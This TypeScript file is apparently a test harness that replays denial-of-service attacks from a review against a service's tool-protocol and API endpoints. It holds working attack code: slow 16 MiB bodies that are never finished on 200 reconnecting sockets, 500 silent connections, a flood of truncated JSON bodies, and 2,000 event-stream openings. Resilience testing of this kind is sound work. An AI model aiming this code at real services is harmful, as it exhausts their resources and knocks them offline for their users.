import { connect, type Socket } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { answerAsChild } from './child.ts';

/* What the review of November 2026 sent to the service, without a key and from one machine. */

/** Begins an attack on the service at an address, and returns the function that ends it. */
export type Attack = (url: string) => () => void;

function openSocket(url: string): Socket {
  const { hostname, port } = new URL(url);
  const socket = connect(Number(port), hostname);
  socket.on('error', () => {});
  socket.on('data', () => {});
  return socket;
}

const buildHead = (url: string, path: string, length: number): string =>
  `POST ${path} HTTP/1.1\r\nhost: ${new URL(url).host}\r\ncontent-type: application/json\r\n` +
  `accept: application/json, text/event-stream\r\ncontent-length: ${length}\r\n\r\n`;

/** Opens a socket again whenever the service ends it, until the attack is over. */
function keepOpen(url: string, count: number, begin: (socket: Socket) => void): () => void {
  const sockets = new Set<Socket>();
  let over = false;
  const open = () => {
    const socket = openSocket(url);
    sockets.add(socket);
    begin(socket);
    socket.once('close', () => {
      sockets.delete(socket);
      if (!over) setTimeout(open, 50);
    });
  };
  for (let index = 0; index < count; index++) open();
  return () => {
    over = true;
    for (const socket of sockets) socket.destroy();
  };
}

const LONG = 16 * 1024 * 1024;

/** 200 sockets that send all but the last byte of 16 MiB to the address of the tool protocol. */
export const holdLongBodies: Attack = (url) => {
  const piece = Buffer.alloc(64 * 1024, 0x20);
  return keepOpen(url, 200, (socket) => {
    socket.write(buildHead(url, '/mcp', LONG));
    let left = LONG - 1;
    const send = () => {
      while (left > 0 && !socket.destroyed) {
        left -= piece.length;
        if (!socket.write(left < 0 ? piece.subarray(0, piece.length + left) : piece)) return;
      }
    };
    socket.on('drain', send);
    send();
  });
};

/** 500 connections on which nothing is ever sent. */
export const holdSilentConnections: Attack = (url) => keepOpen(url, 500, () => {});

/** 50 bodies a second that are half a mebibyte of JSON that breaks off. */
export const sendUnparsableBodies: Attack = (url) => {
  let isOver = false;
  const members = Array.from({ length: 60_000 }, (_, index) => `"${index}":1`).join(',');
  const body = `{${members},"0":1}`.slice(0, 512 * 1024);
  void (async () => {
    while (!isOver) {
      const socket = openSocket(url);
      socket.write(`${buildHead(url, '/api/v1/rooms', body.length)}${body}`);
      setTimeout(() => socket.destroy(), 2_000);
      await sleep(20);
    }
  })();
  return () => {
    isOver = true;
  };
};

/** 2,000 attempts of these agents to open a stream of events. */
function openStreams(url: string, keys: readonly string[]): void {
  for (let index = 0; index < 2_000; index++) {
    const key = keys[index % keys.length] ?? '';
    const headers = `host: ${new URL(url).host}\r\nx-api-key: ${key}\r\n`;
    openSocket(url).write(`GET /api/v1/events/stream HTTP/1.1\r\n${headers}\r\n`);
  }
}

const attackByName = { holdLongBodies, holdSilentConnections, sendUnparsableBodies };
export type AttackName = keyof typeof attackByName;

/** What a process of attackers is asked to do until it is ended. */
export interface AttackOrder {
  readonly url: string;
  readonly attacks: readonly AttackName[];
  /** Keys of agents that open streams of events. */
  readonly streamKeys?: readonly string[];
}

/** Attacks from a process of its own, so that the one that measures is not busy with it. */
export const serveAttackers = (): void =>
  answerAsChild<AttackOrder, void>(async ({ url, attacks, streamKeys = [] }) => {
    for (const name of attacks) attackByName[name](url);
    if (streamKeys.length > 0) openStreams(url, streamKeys);
  });
